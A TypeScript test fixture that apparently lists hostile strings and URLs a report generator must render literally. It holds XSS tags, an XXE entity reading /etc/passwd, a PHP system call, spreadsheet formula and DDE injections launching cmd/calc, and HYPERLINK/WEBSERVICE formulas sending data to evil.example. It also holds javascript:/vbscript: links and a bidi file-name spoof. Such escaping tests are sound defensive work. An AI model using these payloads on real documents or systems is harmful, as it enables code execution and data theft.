/** Texts that programs interpret if a report does not escape them: each has to be displayed literally. */
export const hostileTexts: Readonly<Record<string, string>> = {
  "a script": "<script>alert(1)</script>",
  "an image that runs": "<img src=x onerror=alert(1)>",
  "the end of what is open": "</style></title></script></svg></w:t></a:t></t>]]>-->\"'><svg onload=alert(1)>",
  "an entity and a document type": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;&lt;&#60;',
  "an instruction to a processor": '<?xml version="1.0"?><?php system("id"); ?>',
  "a formula with a link": '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "a formula that runs a program": "=cmd|'/c calc'!A0",
  "a formula after a plus": "+1+cmd|'/c calc'!A0",
  "a formula after a minus": "-2+3+cmd|'/c calc'!A0",
  "a formula after an at sign": "@SUM(1+1)*cmd|'/c calc'!A0",
  "a formula after a tab": '\t=WEBSERVICE("https://evil.example/")',
  "a field": '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" } { INCLUDETEXT "file:///etc/passwd" }',
  "Typst code": '#eval("1+1") #read("/etc/passwd") #panic("boom") $ x $ #import "@preview/x:1.0.0"',
  "Markdown of all kinds":
    "# h *b* _i_ `c` [l](https://evil.example/) ![i](https://evil.example/i.png) <https://evil.example/> | a | [^1]: n",
  "a javascript link": "[x](javascript:alert(1)) javascript:alert(1)",
  "control characters": "bell\u0007 escape\u001b[31m nul\u0000 c1\u009b delete\u007f",
  "half a surrogate pair": "half \ud800 pair \udc00 end",
  "text that turns around": "invoice\u202Egnp.exe\u202C and \u2066isolated\u2069 end",
  "characters that are none": "none \uFFFE\uFFFF of them",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the text that is meant
  "a template": "${process.env.PATH} {{constructor}} <%= 1 %> __proto__",
};

/** Addresses of sources. Only the last one may become a link. */
export const hostileAddresses = [
  "javascript:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "file:///etc/passwd",
  "vbscript:msgbox(1)",
  "ms-word:ofe|u|https://evil.example/x.docm",
  'https://example.org/"onmouseover="alert(1)"<b>&x=1',
] as const;
